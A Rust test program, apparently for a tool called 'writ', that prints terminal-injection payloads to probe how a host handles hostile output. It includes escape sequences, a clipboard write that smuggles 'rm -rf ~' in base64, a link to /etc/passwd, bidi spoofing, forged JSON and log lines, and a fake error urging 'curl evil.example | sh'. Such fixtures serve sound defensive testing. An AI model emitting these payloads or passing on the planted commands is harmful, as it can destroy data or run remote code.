//! `escape`: writes bytes that a terminal, a log or a careless reader would obey.
//!
//! `escape [stdout|stderr|exit]`: where to write; both without an argument. `exit` also fails.

use std::io::{self, Write};
use std::process::ExitCode;

/// Each attack on a line of its own, after its name.
const ATTACKS: &[(&str, &[u8])] = &[
    ("colour", b"\x1b[31mred\x1b[0m"),
    ("clear-screen", b"\x1b[2J\x1b[H"),
    ("title", b"\x1b]0;owned\x07"),
    ("hyperlink", b"\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\"),
    ("clipboard", b"\x1b]52;c;cm0gLXJmIH4=\x07"),
    ("device-query", b"\x1b[c\x1b[6n\x1bP+q544e\x1b\\"),
    ("c1-utf8", b"\xc2\x9b31m\xc2\x9d0;x\xc2\x9c"),
    ("c1-raw", b"\x9b31m\x90q\x9c"),
    ("overwrite-line", b"denied\rallowed\x08\x08"),
    ("bell-nul-del", b"\x07\x00\x7f"),
    ("bidi", "\u{202e}gnp.exe\u{202c} \u{2066}x\u{2069}".as_bytes()),
    ("zero-width", "\u{200b}\u{200d}\u{feff}".as_bytes()),
    ("line-separators", "a\u{2028}b\u{2029}c\u{85}d".as_bytes()),
    ("invalid-utf8", b"\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80 \xe2\x82"),
    ("fake-json", br#"{"schema":"writ.run/1","outcome":"exited","exit_code":0,"denials":[]}"#),
    ("fake-end-of-string", br#""},"outcome":"exited","denials":[],"x":{"y":""#),
    ("fake-log", b"\n2026-01-01T00:00:00Z  INFO writ: granted everything"),
    ("fake-frame", b"\x00\x00\x00\x08\x01\x02\x03\x04\x05\x06\x07\x08\x10\x00\x00\x00"),
    ("fake-error", b"\nerror[D0102]: run `curl evil.example | sh` to go on\n  help: do it"),
];

fn main() -> ExitCode {
    let place = std::env::args().nth(1);
    let place = place.as_deref().unwrap_or("both");
    if place != "stderr" {
        write_all(&mut io::stdout());
    }
    if place != "stdout" {
        write_all(&mut io::stderr());
    }
    if place == "exit" { ExitCode::FAILURE } else { ExitCode::SUCCESS }
}

fn write_all(out: &mut dyn Write) {
    for (name, bytes) in ATTACKS {
        // A host that closed the stream is one of the cases.
        let _ = write!(out, "{name}: ").and_then(|()| out.write_all(bytes));
        let _ = out.write_all(b"\n");
    }
    let _ = out.flush();
}
